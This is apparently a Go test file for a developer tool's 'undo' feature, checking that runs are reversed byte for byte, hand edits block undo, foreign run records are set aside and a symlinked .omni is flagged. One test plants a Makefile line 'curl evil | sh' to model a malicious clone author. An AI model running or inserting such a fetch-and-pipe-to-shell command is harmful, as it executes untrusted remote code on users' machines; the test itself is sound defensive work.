package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/omnidev/omnidev/internal/testrepo"
)

func gitOut(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return string(out)
}

// gitState is what undo must leave as it was: the user's refs, log, stash
// and status.
func gitState(t *testing.T, dir string) map[string]string {
	return map[string]string{
		"status":       gitOut(t, dir, "status", "--porcelain", "--untracked-files=all"),
		"log --all":    gitOut(t, dir, "log", "--all", "--oneline"),
		"stash list":   gitOut(t, dir, "stash", "list"),
		"for-each-ref": gitOut(t, dir, "for-each-ref"),
		"reflog":       gitOut(t, dir, "reflog"),
	}
}

const undoProgram = `import { writeFileSync, unlinkSync, chmodSync, symlinkSync, mkdirSync, renameSync } from "node:fs";
writeFileSync("new.txt", "new\n");
mkdirSync("made/deep", { recursive: true });
writeFileSync("made/deep/file.txt", "deep\n");
writeFileSync("dirty.txt", "rewritten\n");
writeFileSync("untracked.txt", "rewritten too\n");
writeFileSync("big.bin", "small now");
unlinkSync("gone.txt");
unlinkSync("sub/tool.sh");
chmodSync("plain.txt", 0o755);
symlinkSync("plain.txt", "link");
mkdirSync("moved");
renameSync("kept.txt", "moved/kept.txt");
export function main() { return 3; }
`

func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func TestUndoRun(t *testing.T) {
	t.Setenv("OMNIDEV_TRUST_ALL", "1")
	dir := gitInit(t)
	big := strings.Repeat("0123456789abcdef", 1<<17) // 2 MiB: dirty, too large for the change report's copies
	writeFiles(t, dir, map[string]string{
		"omni/config.toml": "project = \"undo\"\n",
		".gitignore":       ".omni/\n",
		"plain.txt":        "plain\n",
		"dirty.txt":        "committed\n",
		"gone.txt":         "gone\n",
		"sub/tool.sh":      "#!/bin/sh\necho hi\n",
		"big.bin":          "committed big\n",
		"kept.txt":         "renamed by the run\n",
	})
	os.Chmod(filepath.Join(dir, "sub/tool.sh"), 0o755)
	gitOut(t, dir, "add", ".")
	gitOut(t, dir, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "init")
	writeFiles(t, dir, map[string]string{
		"dirty.txt":     "committed\nand an edit not committed\n",
		"untracked.txt": "untracked\x00bytes\n",
		"big.bin":       big,
	})
	before, git0 := testrepo.Snapshot(t, dir), gitState(t, dir)

	code, _, errOut := omnidev(t, undoProgram, "--dir", dir, "exec", "-")
	if code != 3 || !strings.Contains(errOut, "--- run ") {
		t.Fatalf("exec: exit %d\n%s", code, errOut)
	}
	changed := testrepo.Snapshot(t, dir)
	code, out, errOut := omnidev(t, "", "--dir", dir, "runs")
	if code != 0 || !strings.Contains(out, "exit 3") || !strings.Contains(out, "11 files") {
		t.Fatalf("runs: exit %d\n%s%s", code, out, errOut)
	}
	id := strings.Fields(out)[0]
	code, out, _ = omnidev(t, "", "--dir", dir, "runs", "show", id)
	for _, want := range []string{`writeFileSync("new.txt"`, "+++ b/new.txt", "-and an edit not committed", "deleted file mode 100755", "new mode 100755", "new file mode 120000"} {
		if code != 0 || !strings.Contains(out, want) {
			t.Errorf("runs show lacks %q:\n%s", want, out)
		}
	}

	// The user's repository does not hold the store's objects: gc cannot
	// break a kept run.
	gitOut(t, dir, "gc", "-q", "--prune=now")
	code, out, errOut = omnidev(t, "", "--dir", dir, "undo")
	if code != 0 || !strings.Contains(out, "undid run "+id) {
		t.Fatalf("undo: exit %d\n%s%s", code, out, errOut)
	}
	if diff := testrepo.SnapshotDiff(before, testrepo.Snapshot(t, dir)); diff != "" {
		t.Errorf("worktree after undo differs from before the run (-before +after):\n%s", diff)
	}
	if diff := testrepo.SnapshotDiff(git0, gitState(t, dir)); diff != "" {
		t.Errorf("git state changed (-before +after):\n%s", diff)
	}

	// The undo is a run of its own: undoing it redoes the run.
	code, out, errOut = omnidev(t, "", "--dir", dir, "undo")
	if code != 0 {
		t.Fatalf("undo of the undo: exit %d\n%s%s", code, out, errOut)
	}
	if diff := testrepo.SnapshotDiff(changed, testrepo.Snapshot(t, dir)); diff != "" {
		t.Errorf("worktree after the undo of the undo differs from after the run (-run +redo):\n%s", diff)
	}

	// A file changed by hand since the run: refused, named, nothing restored.
	writeFiles(t, dir, map[string]string{"new.txt": "edited by hand\n"})
	handEdited := testrepo.Snapshot(t, dir)
	code, out, errOut = omnidev(t, "", "--dir", dir, "undo", id)
	if code != 3 || !strings.Contains(errOut, "new.txt") || !strings.Contains(errOut, "--force") {
		t.Fatalf("undo over a hand edit: exit %d\n%s%s", code, out, errOut)
	}
	if diff := testrepo.SnapshotDiff(handEdited, testrepo.Snapshot(t, dir)); diff != "" {
		t.Errorf("a refused undo changed the worktree:\n%s", diff)
	}
	code, out, errOut = omnidev(t, "", "--dir", dir, "undo", "--force", id)
	if code != 0 {
		t.Fatalf("undo --force: exit %d\n%s%s", code, out, errOut)
	}
	if diff := testrepo.SnapshotDiff(before, testrepo.Snapshot(t, dir)); diff != "" {
		t.Errorf("worktree after undo --force differs from before the run:\n%s", diff)
	}
	if diff := testrepo.SnapshotDiff(git0, gitState(t, dir)); diff != "" {
		t.Errorf("git state changed (-before +after):\n%s", diff)
	}
}

func TestUndoOutsideGit(t *testing.T) {
	t.Setenv("OMNIDEV_TRUST_ALL", "1")
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{
		"omni/config.toml": "project = \"plain\"\n",
		"plain.txt":        "plain\n",
		"dirty.txt":        "some text\n",
		"gone.txt":         "gone\n",
		"sub/tool.sh":      "#!/bin/sh\n",
		"untracked.txt":    "x",
		"big.bin":          "b",
		"kept.txt":         "k",
	})
	before := testrepo.Snapshot(t, dir)
	if code, _, errOut := omnidev(t, undoProgram, "--dir", dir, "exec", "-"); code != 3 {
		t.Fatalf("exec: exit %d\n%s", code, errOut)
	}
	if code, out, errOut := omnidev(t, "", "--dir", dir, "undo"); code != 0 {
		t.Fatalf("undo: exit %d\n%s%s", code, out, errOut)
	}
	if diff := testrepo.SnapshotDiff(before, testrepo.Snapshot(t, dir)); diff != "" {
		t.Errorf("worktree after undo differs from before the run (-before +after):\n%s", diff)
	}
}

// TestUndoNoCommits: in a git repository with no commit yet, every file is
// untracked, and undo still restores them byte for byte.
func TestUndoNoCommits(t *testing.T) {
	t.Setenv("OMNIDEV_TRUST_ALL", "1")
	dir := gitInit(t)
	writeFiles(t, dir, map[string]string{
		"omni/config.toml": "project = \"fresh\"\n",
		".gitignore":       ".omni/\n",
		"plain.txt":        "plain\n",
		"dirty.txt":        "some text\n",
		"gone.txt":         "gone\n",
		"sub/tool.sh":      "#!/bin/sh\n",
		"untracked.txt":    "x",
		"big.bin":          strings.Repeat("z", 3<<20),
		"kept.txt":         "k",
	})
	// No commit: no log or reflog to compare, and git says so by failing.
	fresh := func() map[string]string {
		return map[string]string{
			"status":       gitOut(t, dir, "status", "--porcelain", "--untracked-files=all"),
			"stash list":   gitOut(t, dir, "stash", "list"),
			"for-each-ref": gitOut(t, dir, "for-each-ref"),
		}
	}
	before, git0 := testrepo.Snapshot(t, dir), fresh()
	if code, _, errOut := omnidev(t, undoProgram, "--dir", dir, "exec", "-"); code != 3 {
		t.Fatalf("exec: exit %d\n%s", code, errOut)
	}
	if code, out, errOut := omnidev(t, "", "--dir", dir, "undo"); code != 0 {
		t.Fatalf("undo: exit %d\n%s%s", code, out, errOut)
	}
	if diff := testrepo.SnapshotDiff(before, testrepo.Snapshot(t, dir)); diff != "" {
		t.Errorf("worktree after undo differs from before the run (-before +after):\n%s", diff)
	}
	if diff := testrepo.SnapshotDiff(git0, fresh()); diff != "" {
		t.Errorf("git state changed (-before +after):\n%s", diff)
	}
}

// TestUndoForeignRecords: a repository that comes with run records made
// with another key (a clone's author made them, with the changes of their
// choosing) has them moved aside, unread: `omnidev undo` finds no run and
// writes nothing.
func TestUndoForeignRecords(t *testing.T) {
	dir := gitInit(t)
	writeFiles(t, dir, map[string]string{
		"omni/config.toml": "project = \"clone\"\n",
		"Makefile":         "all:\n\techo safe\n",
	})
	// The author's run: undoing it would put their Makefile back.
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	if code, _, errOut := omnidev(t, "import { writeFileSync } from \"node:fs\";\nwriteFileSync(\"Makefile\", \"all:\\n\\techo safe\\n\");\n", "--dir", dir, "exec", "-"); code != 0 {
		t.Fatalf("exec: exit %d\n%s", code, errOut)
	}
	writeFiles(t, dir, map[string]string{"Makefile": "all:\n\tcurl evil | sh\n"})
	if code, _, errOut := omnidev(t, "import { writeFileSync } from \"node:fs\";\nwriteFileSync(\"Makefile\", \"all:\\n\\techo safe\\n\");\n", "--dir", dir, "exec", "-"); code != 0 {
		t.Fatalf("exec: exit %d\n%s", code, errOut)
	}
	// The user, with a key of their own.
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	code, out, errOut := omnidev(t, "", "--dir", dir, "undo")
	if code == 0 || !strings.Contains(errOut, "moved to") {
		t.Errorf("undo of another key's records: exit %d\n%s%s", code, out, errOut)
	}
	if data, _ := os.ReadFile(filepath.Join(dir, "Makefile")); string(data) != "all:\n\techo safe\n" {
		t.Errorf("Makefile = %q", data)
	}
}

// TestDoctorSymlinkedOmni: doctor reports a .omni that is a symlink, and
// writes nothing through it.
func TestDoctorSymlinkedOmni(t *testing.T) {
	dir, elsewhere := gitInit(t), t.TempDir()
	writeFiles(t, dir, map[string]string{"omni/config.toml": "project = \"link\"\n"})
	if err := os.Symlink(elsewhere, filepath.Join(dir, ".omni")); err != nil {
		t.Fatal(err)
	}
	code, out, errOut := omnidev(t, "", "--dir", dir, "doctor")
	if code == 0 || !strings.Contains(out, ".omni is a symlink") {
		t.Errorf("doctor: exit %d\n%s%s", code, out, errOut)
	}
	if left, _ := os.ReadDir(elsewhere); len(left) != 0 {
		t.Errorf("written through the symlink: %v", left)
	}
}
